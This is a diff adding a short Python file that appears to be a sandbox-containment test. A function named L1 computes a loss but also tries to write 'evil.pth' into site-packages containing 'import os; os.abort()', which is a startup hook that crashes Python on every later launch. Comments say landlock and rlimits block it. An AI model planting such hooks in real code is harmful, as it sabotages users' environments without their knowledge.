@@ -1,0 +1,13 @@
+"""Leave a .pth file for the next start of Python."""
+
+# points: full
+# held by: landlock, rlimits
+
+def L1(yhat, y):
+    def plant():
+        with open(f"{SITE}/evil.pth", "w") as file:
+            file.write("import os; os.abort()")
+        return "evil.pth"
+
+    attempt(plant)
+    return np.sum(np.abs(y - yhat))
